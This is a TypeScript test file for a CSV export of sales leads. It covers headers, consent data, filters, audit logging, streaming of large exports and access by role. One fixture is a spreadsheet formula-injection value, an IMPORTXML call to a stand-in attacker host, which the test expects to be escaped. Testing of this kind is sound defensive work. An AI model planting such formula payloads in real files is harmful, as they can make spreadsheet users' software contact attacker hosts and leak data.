import { once } from 'node:events';
import { get, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { sql } from 'drizzle-orm';
import { beforeAll, expect, test } from 'vitest';
import { insertClientRow, insertFarmRows, insertLeadRow } from '../../../../test/setup/rows.ts';
import { testProduct } from '../../../../test/setup/product.ts';
import { isFullForm } from '../../../../test/setup/full-form.ts';

const product = await testProduct();
const { ctx } = product;
let headers: Record<string, string>;

const fetchFile = async (query = '') => product.call('GET', `/api/leads/export.csv${query}`, { headers });

const openFile = async (query = ''): Promise<IncomingMessage> => {
  const { port } = product.app.server.address() as AddressInfo;
  const request = get({ port, path: `/api/leads/export.csv${query}`, headers, agent: false });
  const [answer] = (await once(request, 'response')) as [IncomingMessage];
  return answer;
};

beforeAll(async () => {
  headers = await product.signIn('editor');
  const clientId = await insertClientRow(ctx, { name: 'Harborline' });
  const farm = await insertFarmRows(ctx, { clientId, slug: 'exports' });
  const id = await insertLeadRow(ctx, farm, { name: '=IMPORTXML("https://evil.example")', phone: '+1 401 555 0134' });
  await insertLeadRow(ctx, farm, { name: 'Held', spam: true });
  await ctx.db.execute(sql`
    insert into consent_receipts (client_id, lead_id, form, given, text_version, text, page_url, at)
    values (${clientId}, ${id}, 'contact form', true, 'v1', 'I agree', 'https://exports.localhost/termites', '2026-11-01T10:00:00Z')`);
});

test('every column of a lead is present, with its consent and source, and no cell is a formula', async () => {
  const { status, text, headers: answered } = await fetchFile('?spam=false');
  expect(status).toBe(200);
  expect(answered['content-type']).toBe('text/csv; charset=utf-8');
  expect(answered['content-disposition']).toMatch(/^attachment; filename="leads-\d{4}-\d\d-\d\d\.csv"$/);
  expect(answered['x-total-count']).toBe('1');
  expect(text.startsWith('\uFEFFId,Created,Name,')).toBe(true);
  expect(text).toContain(`"'=IMPORTXML(""https://evil.example"")"`);
  expect(text).toContain(`'+1 401 555 0134`);
  expect(text).toContain('yes,2026-11-01T10:00:00.000Z,v1,The page,https://exports.localhost/termites');
});

test('the filters of the list apply, errors are reported before the file begins, and the export is recorded', async () => {
  expect((await fetchFile('?spam=true')).text).toContain('Held');
  expect((await fetchFile('?q=nobody')).text.split('\r\n')).toHaveLength(2);
  expect((await fetchFile('?from=yesterday')).status).toBe(400);
  const { rows } = await ctx.db.execute<{ n: number }>(
    sql`select count(*)::integer as n from audit_log where action = 'leads.exported'`,
  );
  expect(rows[0]?.n).toBeGreaterThanOrEqual(3);
});

/** In thousands. */
const MANY = isFullForm ? 20 : 4;

test(`${MANY},000 leads are streamed in order, each once, and never all in memory`, async () => {
  for (const thousand of Array.from({ length: MANY }, (_, index) => index * 1000))
    await ctx.db.execute(sql`
      insert into leads (client_id, farm_id, name, email, email_key, source, lead_type, completed_both, status, created_at, updated_at)
      select l.client_id, l.farm_id, 'Lead ' || n, 'l' || n || '@mail.example', 'l' || n || '@mail.example', 'contact form', 'Contact',
        false, 'new', now(), now()
      from (select client_id, farm_id from leads limit 1) l, generate_series(${thousand}::integer + 1, ${thousand}::integer + 1000) n`);
  await product.app.listen({ port: 0, host: '127.0.0.1' });
  let largest = 0;
  let parts = 0;
  let text = '';
  for await (const part of (await openFile('?q=mail.example')).setEncoding('utf8')) {
    parts += 1;
    largest = Math.max(largest, String(part).length);
    text += String(part);
  }
  const ids = text
    .trim()
    .split('\r\n')
    .slice(1)
    .map((line) => Number(line.split(',')[0]));
  expect(ids).toHaveLength(MANY * 1000);
  expect(new Set(ids).size).toBe(MANY * 1000);
  expect(ids).toEqual(ids.toSorted((a, b) => b - a));
  expect(parts).toBeGreaterThan(MANY);
  // A part is as large however many there are.
  expect(largest).toBeLessThan((text.length * 2) / MANY);
});

test('a download that breaks off does not disturb others', async () => {
  const answer = await openFile();
  await once(answer, 'data');
  answer.destroy();
  expect((await fetchFile('?q=nobody')).status).toBe(200);
});

test.each(['audit', 'content', 'prospects', 'review'])('%s is a file as well', async (list) => {
  const admin = await product.signIn('admin');
  const { status, text } = await product.call('GET', `/api/${list}/export.csv`, { headers: admin });
  expect(status).toBe(200);
  expect(text.startsWith('\uFEFF')).toBe(true);
  const user = await product.signIn('user');
  const asUser = await product.call('GET', `/api/${list}/export.csv`, { headers: user });
  expect(asUser.status).toBe(list === 'audit' ? 403 : 200);
});
